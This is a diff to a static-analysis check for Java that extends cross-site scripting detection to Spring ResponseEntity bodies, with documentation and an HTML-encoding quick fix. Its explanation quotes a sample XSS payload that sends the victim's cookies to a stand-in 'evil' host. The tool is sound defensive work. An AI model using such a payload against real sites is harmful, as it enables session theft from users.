@@ -16,6 +16,14 @@ A Spring handler's return value is the response body when the method is ``@Respo
 its class ``@RestController``: a ``String`` handler returning request data is reported (Spring
 sends it as ``text/html`` to a browser that asks for HTML), unless its mapping ``produces``
 JSON, plain text or another non-HTML type. A plain ``@Controller`` returning a view name is not.
+A ``ResponseEntity`` is the response of any handler: request data in the body of
+``ResponseEntity.ok(body)``, ``ResponseEntity.status(..).body(body)`` or
+``new ResponseEntity<>(body, status)`` (also through a variable) is reported when the entity
+holds text - ``ResponseEntity<String>``, or ``ResponseEntity<?>``/raw with a string built in
+the handler (other objects are sent as JSON) - unless the mapping or the builder sets a
+non-HTML content type (``.contentType(MediaType.APPLICATION_JSON)``,
+``headers.setContentType(MediaType.TEXT_PLAIN)``). Request data in the status or a header only is
+not reported here.
 
 ## Why is this bad?
 The browser runs whatever the response contains: a name like ``<script>fetch('//evil/'+document.cookie)</script>``
@@ -24,11 +32,13 @@ echoed into a page runs in the victim's session, reads their data and acts as th
 ## Example
 ```java
 response.getWriter().println("<p>Hello " + request.getParameter("name") + "</p>");
+return ResponseEntity.ok("<p>Hello " + name + "</p>");   // in a Spring handler
 ```
 
 ## Use instead
 ```java
 response.getWriter().println("<p>Hello " + Encode.forHtml(request.getParameter("name")) + "</p>");
+return ResponseEntity.ok("<p>Hello " + HtmlUtils.htmlEscape(name) + "</p>");
 ```
 The quick fix wraps each part of the written text that is request data as it came (a
 parameter, a header, a variable holding one) in the HTML encoder of a library the file already
@@ -70,6 +80,7 @@ from landguard.dataflow.interpret import (
     SinkHit,
 )
 from landguard.dataflow.shapes import (
+    assignments,
     walk,
 )
 from landguard.dataflow.values import (
@@ -91,6 +102,10 @@ from landguard.languages.java_syntax import (
     call_name,
     concat_leaves,
     import_edit,
+    is_identifier,
+    is_method_call,
+    is_string_literal,
+    modifiers_text,
     node_text,
 )
 
@@ -138,21 +153,24 @@ class CrossSiteScriptingCheck(JavaTaintCheck):
                 )
         classes = body_classes(document, context)
         if not occurs_in(document.source, unit, (b"return",)) or not (
-            classes or occurs_in(document.source, unit, (b"ResponseBody",))
+            classes or occurs_in(document.source, unit, (b"ResponseBody", b"ResponseEntity"))
         ):
             return
         for function, facts in route_facts(unit, document, context):
-            if not _returns_body(document, function, classes):
+            body = _body_of(document, function, classes)
+            if body is None or _not_html(document, facts):
                 continue
             for statement in walk(function.body):
                 if not isinstance(statement, ir.Return) or statement.value is None:
                     continue
                 node = getattr(statement.value, "node", None)
-                value = facts.values.get(node) if node is not None else None
-                if value is None or not any(
-                    label.strength == REQUEST for label in value.labels_for(self.kind)
-                ):
+                if node is None or not _carries_request(facts, statement.value):
                     continue
+                if body != _STRING_BODY and not any(
+                    _carries_request(facts, part) and (body == _ENTITY or isinstance(part, ir.Concat))
+                    for part in _entity_bodies(facts, statement.value)
+                ):
+                    continue  # request data in the status or headers only, or an object sent as JSON
                 yield RULE.finding(
                     document.node_span(node),
                     "Unescaped request data is returned as the response body; encode it for HTML "
@@ -160,7 +178,7 @@ class CrossSiteScriptingCheck(JavaTaintCheck):
                 )
 
     def reports(self, facts: FunctionFacts, hit: SinkHit) -> bool:
-        return hit.via_helper is not None or not _not_html(facts)
+        return hit.via_helper is not None or not _not_html(None, facts)
 
     def fixes(
         self, facts: FunctionFacts, hit: SinkHit, unit: Node, document: Document, context: CheckContext
@@ -168,7 +186,7 @@ class CrossSiteScriptingCheck(JavaTaintCheck):
         """Encode each part of the written text that carries request data, with the HTML encoder
         of a library the file already uses (OWASP Encoder, Spring, commons-text); none otherwise."""
         node = hit.call.node
-        if hit.via_helper is not None or node is None or node.type != "method_invocation":
+        if hit.via_helper is not None or not is_method_call(node):
             return []
         module = module_facts(document, context)
         encoder = next(
@@ -203,23 +221,38 @@ class CrossSiteScriptingCheck(JavaTaintCheck):
         return [Fix(f"Encode it with {call}()", (*edits, *([extra] if extra else [])), preferred=True)]
 
 
-def _not_html(facts: FunctionFacts) -> bool:
-    """The method sets a constant content type that browsers do not render as HTML (JSON, text)."""
+def _not_html(document: Document | None, facts: FunctionFacts) -> bool:
+    """The method sets a constant content type that browsers do not render as HTML (JSON, text):
+    ``setContentType("application/json")``, a ``Content-Type`` header, or (given the document)
+    a Spring ``MediaType`` constant (``ResponseEntity.ok().contentType(MediaType.APPLICATION_JSON)``,
+    ``headers.setContentType(MediaType.TEXT_PLAIN)``)."""
     types = []
     for fact in facts.calls:
-        if fact.call.method == "setContentType":
-            value = fact.argument(0)
-        elif fact.call.method in ("setHeader", "addHeader"):
+        if fact.call.method in ("setContentType", "contentType"):
+            position = 0
+        elif fact.call.method in ("setHeader", "addHeader", "header", "set", "add"):
             name = fact.argument(0)
             if name is None or not (isinstance(name.const, str) and name.const.lower() == "content-type"):
                 continue
-            value = fact.argument(1)
+            position = 1
         else:
             continue
-        if value is None or not isinstance(value.const, str):
+        value = fact.argument(position)
+        if value is not None and isinstance(value.const, str):
+            types.append(value.const.lower())
+            continue
+        argument = fact.call.args[position] if position < len(fact.call.args) else None
+        written = node_text(document, argument.node) if document is not None and argument is not None else ""
+        if not _MEDIA_TYPE_CONSTANT.match(written):
             return False
-        types.append(value.const.lower())
+        types.append(written.rsplit(".", 1)[-1].lower().replace("_", "/", 1))
     return bool(types) and not any(_HTML_TYPES.search(content_type) for content_type in types)
+
+
+def _carries_request(facts: FunctionFacts, expr: ir.Expr) -> bool:
+    node = getattr(expr, "node", None)
+    value = facts.values.get(node) if node is not None else None
+    return value is not None and any(label.strength == REQUEST for label in value.labels_for("xss"))
 
 
 # (an import prefix showing the library is used, the encoder call, the class to import)
@@ -251,7 +284,7 @@ def _plain_text(document: Document, scope, leaf: Node, depth: int = 0) -> bool:
     one), not something that may contain markup the page wants."""
     if depth > 4:
         return False
-    if leaf.type == "method_invocation":
+    if is_method_call(leaf):
         name = call_name(document, leaf)
         if name in _STRING_SOURCES:
             return True
@@ -261,35 +294,83 @@ def _plain_text(document: Document, scope, leaf: Node, depth: int = 0) -> bool:
             and receiver is not None
             and _plain_text(document, scope, receiver, depth + 1)
         )
-    if leaf.type == "identifier":
+    if is_identifier(leaf):
         values = scope.values.get(node_text(document, leaf), [])
         return all(op == "=" and _plain_text(document, scope, value, depth + 1) for op, value in values)
     return False
 
 
 def _is_string(document: Document, scope, leaf: Node) -> bool:
-    if leaf.type == "identifier":
+    if is_identifier(leaf):
         return scope.type_of(node_text(document, leaf)) == "String"
-    if leaf.type == "method_invocation":
+    if is_method_call(leaf):
         return call_name(document, leaf) in _STRING_SOURCES or call_name(document, leaf) == "toString"
-    return leaf.type == "string_literal"
+    return is_string_literal(leaf)
 
 
 _HTML_TYPES = re.compile(r"html|xml|svg")
+# A Spring ``MediaType`` constant naming a type (``MediaType.APPLICATION_JSON``, ``..._VALUE``);
+# ``MediaType.ALL`` names none.
+_MEDIA_TYPE_CONSTANT = re.compile(r"^(?:[\w.]+\.)?MediaType\.[A-Z0-9]+_[A-Z0-9_]+$")
 _NOT_HTML_PRODUCES = re.compile(r"json|text/plain|TEXT_PLAIN|JSON|octet|OCTET|image|IMAGE|csv|CSV")
 
 
-def _returns_body(document: Document, function: ir.Function, classes: frozenset[str]) -> bool:
-    """A ``@ResponseBody`` (or ``@RestController``) handler returning ``String``: what it returns
-    is the body, which Spring sends as ``text/html`` to a browser that asks for it."""
+# What a handler returns: the body text itself, or a ``ResponseEntity`` whose body is text
+# (``ResponseEntity<String>``) or may be (``ResponseEntity<?>``, ``<Object>``, raw: text only when
+# the body is a string built in the handler; another object is sent as JSON).
+_STRING_BODY, _ENTITY, _ENTITY_OF_ANYTHING = "string", "entity", "entity-of-anything"
+_ENTITY_TYPE = re.compile(r"^(?:[\w.]+\.)?ResponseEntity\s*(?:<\s*([\w.?]+)\s*>)?$")
+_TEXT_TYPES = frozenset({"String", "java.lang.String", "CharSequence"})
+
+
+def _body_of(document: Document, function: ir.Function, classes: frozenset[str]) -> str | None:
+    """How the handler's return value becomes the response body, or None when it does not (a
+    view name, a mapping that ``produces`` JSON, plain text or another non-HTML type).
+
+    A ``String`` is the body of a ``@ResponseBody`` (or ``@RestController``) handler, which
+    Spring sends as ``text/html`` to a browser that asks for it; a ``ResponseEntity`` is the
+    response of any handler, a plain ``@Controller``'s too."""
     node = function.node
-    if node is None or node_text(document, node.child_by_field_name("type")) != "String":
-        return False
+    if node is None or _NOT_HTML_PRODUCES.search(modifiers_text(document, node)):
+        return None
+    returned = node_text(document, node.child_by_field_name("type"))
+    entity = _ENTITY_TYPE.match(returned)
+    if entity is not None:
+        argument = entity.group(1)
+        if argument in _TEXT_TYPES:
+            return _ENTITY
+        return _ENTITY_OF_ANYTHING if argument in (None, "?", "Object", "java.lang.Object") else None
+    if returned != "String":
+        return None
     annotations = function.extra.get("annotations", ())
-    if "ResponseBody" not in annotations and function.class_name not in classes:
-        return False
-    modifiers = next((child for child in node.children if child.type == "modifiers"), None)
-    return not (modifiers is not None and _NOT_HTML_PRODUCES.search(node_text(document, modifiers)))
+    return _STRING_BODY if "ResponseBody" in annotations or function.class_name in classes else None
+
+
+_ENTITY_BUILDERS = frozenset({"ok", "body"})  # ``ResponseEntity.ok(body)``, ``....body(body)``
+
+
+def _entity_bodies(facts: FunctionFacts, expr: ir.Expr, depth: int = 0) -> list[ir.Expr]:
+    """The body arguments of the ``ResponseEntity`` a handler returns: ``ResponseEntity.ok(x)``,
+    ``ResponseEntity.status(s).header(...).body(x)``, ``new ResponseEntity<>(x, status)``,
+    through the variables holding one."""
+    if depth > 4:
+        return []
+    if isinstance(expr, ir.Cond):
+        return _entity_bodies(facts, expr.then, depth + 1) + _entity_bodies(facts, expr.orelse, depth + 1)
+    if isinstance(expr, ir.Name):
+        return [
+            body
+            for assign in assignments(facts.function.body)
+            if isinstance(assign.target, ir.Name) and assign.target.name == expr.name
+            for body in _entity_bodies(facts, assign.value, depth + 1)
+        ]
+    if not isinstance(expr, ir.Call) or not expr.args:
+        return []
+    if expr.is_new:
+        return [expr.args[0]] if (expr.callee or "").endswith("ResponseEntity") else []
+    if expr.method == "body" or (expr.method == "ok" and (expr.callee or "").endswith("ResponseEntity.ok")):
+        return [expr.args[0]]
+    return []
 
 
 CHECK = CrossSiteScriptingCheck()
